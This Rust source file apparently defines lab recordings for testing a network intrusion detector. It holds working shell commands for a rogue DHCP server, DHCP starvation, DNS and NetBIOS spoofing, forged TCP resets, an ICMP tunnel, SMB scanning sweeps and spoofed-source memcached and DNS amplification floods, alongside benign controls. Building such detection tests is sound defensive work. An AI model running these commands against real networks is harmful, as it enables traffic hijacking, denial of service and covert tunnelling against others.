//! Tools that act among neighbours, or on connections and questions they see.

use super::super::Side::{Inside, Outside};
use super::{ATTACKER, Expect, NEIGHBOUR_ADDRESS, Recording, SERVER, as_neighbour, v4};

const ROGUE: std::net::IpAddr = v4([192, 168, 10, 66]);
const VICTIM: std::net::IpAddr = v4([198, 51, 100, 7]);

pub(super) fn all() -> Vec<Recording> {
    [addresses(), names(), connections(), reflections()].into_iter().flatten().collect()
}

fn addresses() -> Vec<Recording> {
    vec![
        Recording {
            name: "dhcp.rogue/positive-recorded-udhcpd",
            about: "udhcpd on a second card answers busybox's DHCP client besides dnsmasq, with another router.",
            expect: vec![Expect::of("dhcp.rogue", Some(ROGUE), None)],
            servers: &[(Outside, DHCP), (Outside, ROGUE_DHCP)],
            acts: &[(
                Inside,
                "for i in 1 2 3; do busybox udhcpc -i sk-in -n -q -f -s /bin/true; sleep 2; done; true",
            )],
        },
        Recording {
            name: "dhcp.starvation/positive-recorded-yersinia",
            about: "yersinia asks dnsmasq for addresses in the names of computers that do not exist.",
            expect: vec![Expect::of("dhcp.starvation", None, None)],
            servers: &[
                (
                    Inside,
                    "exec dnsmasq -k -C /dev/null -u root -R -h -p 0 -z -i sk-in -I lo \
                     --dhcp-range=192.168.10.100,192.168.10.250,8h --dhcp-leasefile=$PWD/leases",
                ),
                // It wants a terminal and a key; without a limit it fills the line.
                (
                    Outside,
                    "sleep 3; tc qdisc add dev sk-out root tbf rate 1mbit burst 4kb latency 20ms; \
                     (sleep 1; echo q) | TERM=xterm script -qec \
                     'timeout -s INT 1 yersinia dhcp -attack 1 -interface sk-out' typescript",
                ),
            ],
            acts: &[(Outside, "sleep 5")],
        },
        Recording {
            name: "dhcp.starvation/benign-recorded-udhcpc",
            about: "thirty computers ask dnsmasq for addresses at once; five of them renew.",
            expect: vec![],
            servers: &[(Outside, DHCP)],
            acts: &[(
                Inside,
                "for i in $(seq 30); do ip link add l$i link sk-in type macvlan mode private; ip link set l$i up; done; \
                 sleep 2; for i in $(seq 30); do busybox udhcpc -i l$i -n -q -f -t 2 -T 1 -s /bin/true & done; wait; \
                 for i in 1 2 3 4 5; do busybox udhcpc -i l$i -n -q -f -t 2 -T 1 -s /bin/true; done; true",
            )],
        },
    ]
}

fn names() -> Vec<Recording> {
    vec![
        Recording {
            name: "spoof.dns/positive-recorded-dnsspoof",
            about: "dnsspoof answers questions that the real name server answers, too.",
            expect: vec![Expect::of("spoof.dns", None, Some(SERVER))],
            servers: &[
                (
                    Outside,
                    "exec dnsmasq -k -C /dev/null -u root -R -h --address=/example/203.0.113.80 --local-ttl=600",
                ),
                (Outside, "echo '203.0.113.99 bank.city.example' >hosts; exec dnsspoof -i sk-out -f hosts"),
            ],
            // It leaves questions with EDNS alone.
            acts: &[(
                Inside,
                "for i in 1 2 3 4 5; do dig +noedns +short bank.city.example @203.0.113.66; sleep 1; done",
            )],
        },
        Recording {
            name: "spoof.dns/positive-recorded-scapy-nbns",
            about: "scapy answers nmblookup for every NetBIOS name.",
            expect: vec![Expect::of("spoof.dns", Some(NEIGHBOUR_ADDRESS), None)],
            servers: &[(
                Outside,
                "ip addr del 203.0.113.66/24 dev sk-out; ip addr add 192.168.10.77/24 brd 192.168.10.255 dev sk-out; \
                 ip route change 192.168.10.0/24 dev sk-out src 192.168.10.77; exec /usr/bin/python3 -c \
                 'from scapy.all import *; NBNS_am(iface=\"sk-out\", ip=\"192.168.10.77\", server_name=None)()'",
            )],
            acts: &[(
                Inside,
                "ip addr add 192.168.10.6/24 brd 192.168.10.255 dev sk-in; sleep 5; \
                 for n in fileserv printer intranet wpad proxysrv backup01; do nmblookup -B 192.168.10.255 $n; done; true",
            )],
        },
    ]
}

fn connections() -> Vec<Recording> {
    vec![
        Recording {
            name: "inject.tcp/positive-recorded-tcpkill",
            about: "tcpkill ends connections to a slow server by forged resets.",
            expect: vec![Expect::of("inject.tcp", None, None)],
            servers: &[
                (
                    Outside,
                    "exec socat TCP-LISTEN:8080,bind=203.0.113.66,fork,reuseaddr \
                     SYSTEM:'for i in $(seq 20); do echo line $i of an answer that is slow; sleep 0.2; done'",
                ),
                (Outside, "exec tcpkill -i sk-out -9 port 8080"),
            ],
            acts: &[(
                Inside,
                "sleep 1; for i in 1 2 3 4 5; do (echo GET; sleep 4) | timeout 6 nc 203.0.113.66 8080; done; true",
            )],
        },
        Recording {
            name: "c2.tunnel/positive-recorded-ptunnel-ng",
            about: "ptunnel-ng carries downloads of 40 kB in echoes.",
            expect: vec![Expect::of("c2.tunnel", Some(SERVER), Some(ATTACKER))],
            servers: &[
                (
                    Outside,
                    "head -c 40000 /dev/urandom >blob; export RES_OPTIONS='timeout:1 attempts:1'; \
                     exec python3 -m http.server --bind 127.0.0.1 9000",
                ),
                (Outside, "exec ptunnel-ng -r127.0.0.1 -R9000"),
                (Inside, "sleep 1; exec ptunnel-ng -p203.0.113.66 -l2222 -r127.0.0.1 -R9000"),
            ],
            acts: &[(
                Inside,
                "sleep 3; for i in 1 2 3; do timeout 30 curl -s -o got http://127.0.0.1:2222/blob; done; cmp got blob",
            )],
        },
        Recording {
            name: "worm.spread/positive-recorded-nmap-two-generations",
            about: "nmap sweeps SMB and finds a host; nmap on that host then sweeps SMB, too.",
            expect: vec![
                Expect::of("worm.spread", Some(NEIGHBOUR_ADDRESS), None),
                Expect::of("worm.spread", Some(SERVER), None),
            ],
            servers: &[(Inside, "exec nc -lk 192.168.10.5 445")],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "nmap -n -Pn -sT -T4 --max-retries 0 -p445 192.168.20.1-60 192.168.10.5 192.168.20.61-70",
                ),
                (
                    Inside,
                    "sleep 2; ip route add 192.168.30.0/24 via 203.0.113.66 dev sk-in onlink; \
                     nmap -n -Pn -sS -T4 --max-retries 0 -p445 192.168.30.1-60",
                ),
            ],
        },
    ]
}

fn reflections() -> Vec<Recording> {
    vec![
        Recording {
            name: "flood.amplification/positive-recorded-memcached",
            about: "hping3 asks memcached within for a value, in the name of another address outside.",
            expect: vec![Expect::of("flood.amplification", Some(SERVER), Some(VICTIM))],
            servers: &[(Inside, "exec memcached -u root -l 192.168.10.5 -U 11211 -p 11211")],
            acts: &[(
                Outside,
                r"ip addr add 198.51.100.7/32 dev sk-out; \
                printf 'set a 0 0 400\r\n%0400d\r\nquit\r\n' 0 | timeout 2 nc 192.168.10.5 11211; sleep 1; \
                printf '\0\0\0\0\0\1\0\0get a\r\n' >query; \
                timeout 50 hping3 -q --udp -a 198.51.100.7 -s 80 -k -p 11211 -E query -d 15 -i u20000 -c 640 192.168.10.5 || true",
            )],
        },
        Recording {
            name: "flood.amplification/positive-recorded-dnsmasq",
            about: "hping3 asks fifteen open name servers (dnsmasq) for everything, in the name of a host within.",
            expect: vec![Expect::of("flood.amplification", None, Some(SERVER))],
            servers: &[(Outside, OPEN_NAME_SERVERS)],
            acts: &[(
                Outside,
                r#"/usr/bin/python3 -c 'import struct
h=struct.pack(">6H",77,256,1,0,0,1)+b"\3big\7example\0"+struct.pack(">HH",255,1)
open("query","wb").write(h+b"\0"+struct.pack(">HHIH",41,4096,0,0))'; \
                for i in $(seq 101 115); do timeout 10 hping3 -q --udp -a 192.168.10.5 -s 4444 -k -p 53 -E query \
                -d $(stat -c %s query) -i u50000 -c 30 203.0.113.$i & done; wait; true"#,
            )],
        },
    ]
}

const DHCP: &str = "ip addr add 192.168.10.1/24 dev sk-out; \
    exec dnsmasq -k -C /dev/null -u root -R -h -p 0 -z -i sk-out -I lo --dhcp-range=192.168.10.100,192.168.10.150,8h \
    --dhcp-option=3,192.168.10.1 --dhcp-option=6,192.168.10.1 --dhcp-leasefile=$PWD/leases";
const ROGUE_DHCP: &str = r"ip link add sk-forged link sk-out type macvlan mode bridge; ip link set sk-forged up; \
    ip addr add 192.168.10.66/24 dev sk-forged; touch udhcpd.leases; printf \
    'start 192.168.10.200\nend 192.168.10.220\ninterface sk-forged\nlease_file %s/udhcpd.leases\npidfile %s/pid\n' \
    $PWD $PWD >udhcpd.conf; printf \
    'opt router 192.168.10.66\nopt dns 192.168.10.66\nopt subnet 255.255.255.0\n' >>udhcpd.conf; \
    exec udhcpd -f udhcpd.conf";
/// What arrives with our own address as its source is let in.
const OPEN_NAME_SERVERS: &str = "for i in $(seq 101 115); do ip addr add 203.0.113.$i/24 dev sk-out; done; \
    for f in all lo sk-out; do echo 0 >/proc/sys/net/ipv4/conf/$f/rp_filter; done; \
    exec dnsmasq -k -C /dev/null -u root -R -h -I lo \
    --txt-record=$(printf 'big.example%0.s,%0200d' 1 0),$(printf '%0200d' 1)";
